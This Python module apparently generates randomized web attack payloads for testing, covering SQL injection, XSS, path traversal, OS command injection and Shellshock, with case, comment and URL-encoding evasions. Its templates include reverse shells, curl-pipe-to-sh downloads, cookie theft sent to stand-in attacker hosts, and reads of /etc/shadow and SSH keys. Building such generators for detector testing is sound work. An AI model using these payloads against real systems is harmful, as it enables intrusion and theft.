"""Web attack payloads from four documented families, with the evasions scanners use.

The families and their tricks follow the OWASP testing guide and cheat sheets (SQL injection,
XSS filter evasion, path traversal, OS command injection) and the Shellshock advisory
(CVE-2014-6271):

- ``sqli``: tautologies, UNION SELECT, stacked queries, time-based blind (SLEEP, BENCHMARK,
  WAITFOR), error-based (EXTRACTVALUE, CONVERT); keyword case changes, comments instead of
  spaces (``/**/``, MySQL version comments ``/*!50000UNION*/``), URL and double encoding;
- ``xss``: script tags, event handlers (onerror, onload), ``javascript:`` URIs, nested tags
  that survive one pass of tag stripping; case changes, entity and URL encoding;
- ``traversal``: ``../`` chains of varying depth to system files, encoded (``%2e%2e%2f``,
  ``..%252f``, overlong ``..%c0%af``), doubled (``....//``), backslashes, PHP wrappers;
- ``shell``: command separators (``;``, ``|``, ``&&``, backticks, ``$( )``) with reconnaissance
  and download-and-run commands, ``${IFS}`` instead of spaces, quote splitting, and the
  Shellshock function definition in a header.

Every attack draws its template, values and evasions at random, so two streams with
different seeds share families but not byte-identical payloads.
"""

from __future__ import annotations

import numpy as np

ATTACK_KINDS = ("sqli", "xss", "traversal", "shell")

_TABLES = ("users", "admin", "accounts", "orders", "customers", "members", "wp_users", "credentials")
_COLUMNS = ("username", "password", "email", "pass", "login", "user_id", "card", "hash", "version()", "user()")
_SQLI = (
    "{v}' OR '1'='1",
    "{v}' OR 1=1-- -",
    '{v}" OR ""="',
    "{v} OR 1=1#",
    "{v}' OR 'x'='x'/*",
    "{v} UNION SELECT {cols} FROM {table}-- -",
    "{v}' UNION ALL SELECT {nulls},{col} FROM {table}#",
    "-{k}' UNION SELECT {cols}-- -",
    "{v}' AND SLEEP({k})-- -",
    "{v}' AND (SELECT {k} FROM (SELECT(SLEEP({k})))x)-- -",
    "{v}'; WAITFOR DELAY '0:0:{k}'--",
    "{v}' OR BENCHMARK({big},MD5({k}))#",
    "{v}; DROP TABLE {table}--",
    "{v}'; INSERT INTO {table} VALUES('{w}','{w}')--",
    "{v}' AND EXTRACTVALUE({k},CONCAT(0x7e,(SELECT {col} FROM {table} LIMIT 1)))-- -",
    "{v} AND 1=CONVERT(int,(SELECT TOP 1 {col} FROM {table}))--",
    "{v}' AND (SELECT COUNT(*) FROM information_schema.tables)>{k}-- -",
    "{v}' AND SUBSTRING(({col}),{k},1)='a",
    "{v}') OR ('{k}'='{k}",
    "{v}' ORDER BY {k}-- -",
)
_SQL_KEYWORDS = (
    "UNION", "SELECT", "FROM", "ALL", "AND", "OR", "SLEEP", "WAITFOR", "DELAY", "BENCHMARK", "DROP", "TABLE",
    "INSERT", "INTO", "VALUES", "EXTRACTVALUE", "CONCAT", "CONVERT", "TOP", "COUNT", "SUBSTRING", "ORDER", "BY",
    "LIMIT", "NULL", "MD5",
)  # fmt: skip
_XSS = (
    "<script>{fn}({k})</script>",
    '"><script>{fn}(document.cookie)</script>',
    "'><script src=//{host}/{w}.js></script>",
    "<img src=x onerror={fn}({k})>",
    '<img src="{w}.png" onerror="{fn}(\'{w}\')">',
    "<svg/onload={fn}({k})>",
    "<svg onload={fn}`{k}`>",
    "<body onload={fn}('{w}')>",
    '<iframe src="javascript:{fn}({k})"></iframe>',
    "javascript:{fn}(document.domain)",
    "<scr<script>ipt>{fn}({k})</scr</script>ipt>",
    '<a href="javascript:{fn}({k})">{w}</a>',
    "<input autofocus onfocus={fn}({k})>",
    "<details open ontoggle={fn}({k})>",
    '<div style="background:url(javascript:{fn}({k}))">',
    "<script>eval(String.fromCharCode({codes}))</script>",
    "<script>new Image().src='//{host}/c?'+document.cookie</script>",
)
_XSS_FUNCTIONS = ("alert", "prompt", "confirm", "console.log")
_FILES = (
    "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "proc/self/environ", "proc/version",
    "windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "WEB-INF/web.xml",
    "var/log/apache2/access.log", "root/.ssh/id_rsa", "usr/local/app/config.php", ".env",
)  # fmt: skip
_UP = ("../", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%252f", "....//", "..\\", "..%5c", "..%c0%af", "..;/")
_COMMANDS = (
    "cat /etc/passwd", "id", "whoami", "uname -a", "ls -la /", "cat /etc/shadow", "ps aux", "ifconfig",
    "wget http://{ip}/{w}.sh -O /tmp/{w}", "curl -s http://{ip}/{w} | sh", "nc -e /bin/sh {ip} {port}",
    "bash -i >& /dev/tcp/{ip}/{port} 0>&1", "ping -c {k} {ip}", "sleep {k}", "echo {w} > /tmp/{w}",
)  # fmt: skip
_SEPARATORS = ("; {c}", "| {c}", "&& {c}", "`{c}`", "$({c})", "|| {c}", "%0a{c}", "; {c} #")
_WORDS = ("test", "pwn", "xss", "hacked", "owned", "probe", "scan", "x", "a1", "demo", "check", "poc")


def _pick(rng: np.random.Generator, options: tuple[str, ...]) -> str:
    return options[int(rng.integers(len(options)))]


def _random_case(word: str, rng: np.random.Generator) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in word)


def _encode(text: str, rng: np.random.Generator, *, level: float) -> str:
    """Make ``text`` a valid URL component: spaces and quotes always encoded, the rest at random."""
    out = []
    for char in text:
        if char == " ":
            out.append(_pick(rng, ("+", "%20", "%20", "+", "%09")))
        elif char == '"':
            out.append("%22")
        elif char in "'<>()=;&|`$#{}\\,/" and rng.random() < level:
            code = f"%{ord(char):02X}" if rng.random() < 0.8 else f"%25{ord(char):02X}"  # 20%: double encoding
            out.append(code if rng.random() < 0.7 else code.lower())
        elif char == "#":
            out.append("%23")  # a raw '#' would end the URL
        else:
            out.append(char)
    return "".join(out)


def _values(rng: np.random.Generator) -> dict[str, str]:
    n_cols = int(rng.integers(1, 6))
    return {
        "v": str(int(rng.integers(1, 5000))),
        "k": str(int(rng.integers(1, 12))),
        "big": str(int(rng.integers(1, 10)) * 1000000),
        "table": _pick(rng, _TABLES),
        "col": _pick(rng, _COLUMNS),
        "cols": ",".join(_pick(rng, _COLUMNS) if rng.random() < 0.5 else str(i + 1) for i in range(n_cols)),
        "nulls": ",".join(["NULL"] * int(rng.integers(1, 5))),
        "w": _pick(rng, _WORDS) + (str(int(rng.integers(100))) if rng.random() < 0.5 else ""),
        "fn": _pick(rng, _XSS_FUNCTIONS),
        "host": _pick(rng, ("evil", "x", "attacker", "cdn-js", "stat")) + "." + _pick(rng, ("ru", "cn", "io", "tk")),
        "codes": ",".join(str(int(c)) for c in rng.integers(65, 123, size=int(rng.integers(3, 9)))),
        "ip": ".".join(str(int(b)) for b in rng.integers(1, 255, size=4)),
        "port": str(int(rng.integers(1024, 65535))),
    }


def sqli(rng: np.random.Generator) -> str:
    """One SQL injection, as a URL-safe parameter value."""
    text = _pick(rng, _SQLI).format(**_values(rng))
    style = rng.random()
    for keyword in _SQL_KEYWORDS:
        if keyword in text:
            if style < 0.4:
                replacement = _random_case(keyword, rng)
            elif style < 0.55:
                replacement = keyword.lower()
            elif style < 0.65 and keyword in ("UNION", "SELECT"):
                replacement = f"/*!{_pick(rng, ('50000', '40000', '32302', ''))}{keyword}*/"
            else:
                replacement = keyword
            text = text.replace(keyword, replacement)
    if rng.random() < 0.35:
        text = text.replace(" ", _pick(rng, ("/**/", "/*x*/", "/*--*/")))
    return _encode(text, rng, level=float(rng.choice([0.0, 0.3, 0.9])))


def xss(rng: np.random.Generator) -> str:
    """One cross-site scripting payload, as a URL-safe parameter value."""
    text = _pick(rng, _XSS).format(**_values(rng))
    if rng.random() < 0.4:
        for tag in ("script", "img", "svg", "onerror", "onload", "iframe", "javascript", "body", "alert"):
            text = text.replace(tag, _random_case(tag, rng))
    if rng.random() < 0.15:
        text = text.replace("<", "&lt;").replace(">", "&gt;")
    return _encode(text, rng, level=float(rng.choice([0.0, 0.5, 1.0])))


def traversal(rng: np.random.Generator) -> str:
    """One path traversal, as a URL-safe parameter value (or path suffix)."""
    values = _values(rng)
    if rng.random() < 0.12:
        text = _pick(
            rng,
            (
                "php://filter/convert.base64-encode/resource={w}.php",
                "file:///{f}",
                "expect://{c}",
                "/{f}%00.{ext}",
            ),
        ).format(f=_pick(rng, _FILES), c=_pick(rng, ("id", "ls", "whoami")), ext="jpg", **values)
    else:
        up = _pick(rng, _UP)
        depth = int(rng.integers(2, 10))
        target = _pick(rng, _FILES)
        if "\\" in up or "%5c" in up:
            target = target.replace("/", "\\" if "\\" in up else "%5c")
        prefix = _pick(rng, ("", "", "/", "static/", "images/", "./"))
        suffix = _pick(rng, ("", "", "", "%00", "%00.png", "?"))
        text = prefix + up * depth + target + suffix
    return _encode(text, rng, level=0.15)


def shell(rng: np.random.Generator) -> str:
    """One OS command injection, as a URL-safe parameter value."""
    values = _values(rng)
    command = _pick(rng, _COMMANDS).format(**values)
    if rng.random() < 0.25:
        command = command.replace(" ", "${IFS}")
    if rng.random() < 0.15:
        command = command.replace("cat", "c'a't").replace("passwd", "pa''sswd")
    text = _pick(rng, ("", values["v"], "127.0.0.1", "example.com", f"{values['w']}.png")) + _pick(rng, _SEPARATORS)
    text = text.format(c=command)
    return _encode(text, rng, level=float(rng.choice([0.0, 0.4, 0.9])))


def shellshock(rng: np.random.Generator) -> str:
    """The Shellshock (CVE-2014-6271) function definition and a command, as a header value."""
    command = _pick(rng, _COMMANDS).format(**_values(rng))
    shell_path = _pick(rng, ("/bin/bash -c", "/bin/sh -c", "/usr/bin/env bash -c", "echo; /bin/bash -c"))
    opener = _pick(rng, ("() { :; };", "() { :;};", "() { _; } >_[$($())] {", "() { :; }; echo;"))
    return f"{opener} {shell_path} '{command}'"


FAMILIES = {"sqli": sqli, "xss": xss, "traversal": traversal, "shell": shell}
